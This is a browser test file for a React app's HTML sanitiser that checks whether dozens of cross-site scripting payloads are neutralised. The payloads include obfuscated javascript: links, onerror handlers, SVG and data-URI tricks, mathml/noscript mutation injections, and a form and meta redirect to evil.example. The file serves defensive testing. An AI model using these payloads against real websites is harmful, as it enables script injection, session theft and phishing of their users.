import { expect, test } from 'vitest'
import { render } from 'vitest-browser-react'
import '#src/ui/styles.css'
import { safeImage, safeLink } from '#src/ui/html/addresses.ts'
import { SafeHtml } from '#src/ui/html/SafeHtml.tsx'
import { safeFragment } from '#src/ui/html/safeFragment.ts'

declare global {
  /** Set by an attack that got through. */
  var attacked: string | undefined
}

const clean = (html: string): string => {
  const place = document.createElement('div')
  place.append(safeFragment(html))
  return place.innerHTML
}

const png =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

const attacks: Readonly<Record<string, string>> = {
  script: '<script>globalThis.attacked = "script"</script>',
  'an image that fails': '<img src="x" onerror="globalThis.attacked = \'onerror\'">',
  'an image that fails, of a good address': `<img src="${png}" onload="globalThis.attacked = 'onload'">`,
  'an svg that loads': '<svg onload="globalThis.attacked = \'svg\'"><circle r="5"/></svg>',
  'a script in svg': '<svg><script>globalThis.attacked = "svg script"</script></svg>',
  'an svg as data':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='attacked=1'/>\">",
  'an svg as data, in base64': '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  'an svg as data, in capitals': '<img src="DATA:IMAGE/SVG+XML;base64,PHN2Zy8+">',
  'an svg as data, with a blank': '<img src=" data:image/svg+xml;base64,PHN2Zy8+">',
  'html as data': '<a href="data:text/html,<script>attacked=1</script>">x</a>',
  'an image that says it is html': '<img src="data:text/html,hola">',
  'a link of javascript': '<a href="javascript:globalThis.attacked=1">x</a>',
  'a link of javascript with a tab': '<a href="java&#9;script:globalThis.attacked=1">x</a>',
  'a link of javascript with a line': '<a href="java&#10;script:globalThis.attacked=1">x</a>',
  'a link of javascript after control letters':
    '<a href="&#1;javascript:globalThis.attacked=1">x</a>',
  'a link of javascript in capitals': '<a href="JaVaScRiPt:globalThis.attacked=1">x</a>',
  'a link of vbscript': '<a href="vbscript:x">x</a>',
  'a link to a file': '<a href="file:///etc/passwd">x</a>',
  'a link of blob': '<a href="blob:https://recado.example/1">x</a>',
  'a link without a scheme': '<a href="//evil.example/">x</a>',
  'a link within the page': '<a href="/lpmobile/clients">x</a>',
  'a frame': '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  'an object': '<object data="data:text/html,<script>attacked=1</script>"></object>',
  'an embed': '<embed src="https://evil.example/x.swf">',
  'a form': '<form action="https://evil.example"><input name="code"><button>Enviar</button></form>',
  'a base': '<base href="https://evil.example/">',
  'a meta': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a style sheet': '<style>body { display: none }</style>',
  'a linked style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'a style that covers the page':
    '<p style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example)">x</p>',
  'a style with an address':
    '<p style="color:red;background-image:url(https://evil.example)">x</p>',
  'an id that shadows': '<p id="root" name="cookie" class="dialog">x</p>',
  'a template': '<template><script>globalThis.attacked = 1</script></template>',
  'mathml that mutates':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked=1&gt;">',
  'noscript that mutates': '<noscript><p title="</noscript><img src=x onerror=attacked=1>">',
  'a handler in a link': '<a href="https://recado.example" onclick="globalThis.attacked=1">x</a>',
  'a details that toggles': '<details open ontoggle="globalThis.attacked=1">x</details>',
  'a video': '<video src="x" onerror="globalThis.attacked=1"></video>',
  'a custom element': '<x-evil onclick="attacked=1">x</x-evil>',
  'a picture from several addresses':
    '<img src="https://recado.example/a.png" srcset="data:image/svg+xml,x 2x">',
}

test.each(Object.entries(attacks))('%s is harmless', async (_, html) => {
  globalThis.attacked = undefined
  const text = clean(html)
  expect(text).not.toMatch(
    /<(?:script|svg|math|iframe|object|embed|form|input|button|base|meta|style|link|template|noscript|details|video|x-evil)/i,
  )
  expect(text).not.toMatch(
    /\son\w+=|javascript:|vbscript:|svg\+xml|srcset|position|url\(| id=| class=/i,
  )
  for (const link of [
    ...document.createRange().createContextualFragment(text).querySelectorAll('a'),
  ])
    expect(link.getAttribute('href') ?? 'https:').toMatch(/^(?:https?|mailto|tel):/)
  const screen = await render(<SafeHtml html={html} />)
  for (const link of screen.container.querySelectorAll<HTMLElement>('a:not([href])')) link.click()
  // A picture that fails says so in a task of its own.
  await Promise.all(
    [...screen.container.querySelectorAll('img')].map((image) => image.decode().catch(() => null)),
  )
  expect(globalThis.attacked).toBeUndefined()
})

test('what the editor writes stays', () => {
  const html =
    '<h2>Hola</h2><p>Uno <strong>dos</strong> <em>tres</em> <u>cuatro</u> <s>cinco</s></p><ul><li>seis</li></ul><ol><li>siete</li></ol>'
  expect(clean(html)).toBe(html)
})

test.each([
  'https://recado.example/',
  'http://recado.example/',
  'mailto:a@b.example',
  'tel:+50688881111',
])('a link to %s stays, and opens elsewhere without a word about this page', (address) => {
  expect(clean(`<a href="${address}">x</a>`)).toBe(
    `<a href="${address}" target="_blank" rel="noopener noreferrer">x</a>`,
  )
})

test.each(['https://recado.example/a.png', png])('a picture of %s stays', (address) => {
  expect(clean(`<img src="${address}" alt="Una foto">`)).toBe(
    `<img src="${address}" alt="Una foto">`,
  )
})

test('the colours of text stay: as they are in the light theme, readable in the dark one', async () => {
  document.documentElement.dataset.theme = 'light'
  const screen = await render(
    <SafeHtml html='<p><span style="color: #2563eb; background-color: #fff0d3; position: fixed">x</span></p>' />,
  )
  const span = screen.container.querySelector('span')
  if (!span) throw new Error('no span')
  const lightness = (color: string) => Number(/oklch\(([\d.]+)/.exec(color)?.[1])
  expect(getComputedStyle(span).color).toBe('rgb(37, 99, 235)')
  expect(getComputedStyle(span).backgroundColor).toBe('rgb(255, 240, 211)')
  expect(getComputedStyle(span).position).toBe('static')
  document.documentElement.dataset.theme = 'dark'
  expect(lightness(getComputedStyle(span).color)).toBeGreaterThanOrEqual(0.78)
  expect(lightness(getComputedStyle(span).backgroundColor)).toBeLessThanOrEqual(0.38)
  delete document.documentElement.dataset.theme
})

test('addresses are told by their scheme', () => {
  expect(safeLink('sms:123')).toBeNull()
  expect(safeLink('recado.example')).toBeNull()
  expect(safeImage('data:image/svg+xml,<svg/>')).toBeNull()
  expect(safeImage('data:image/png,x')).not.toBeNull()
  expect(safeImage('blob:https://recado.example/1')).toBeNull()
  expect(safeImage('mailto:a@b.example')).toBeNull()
})
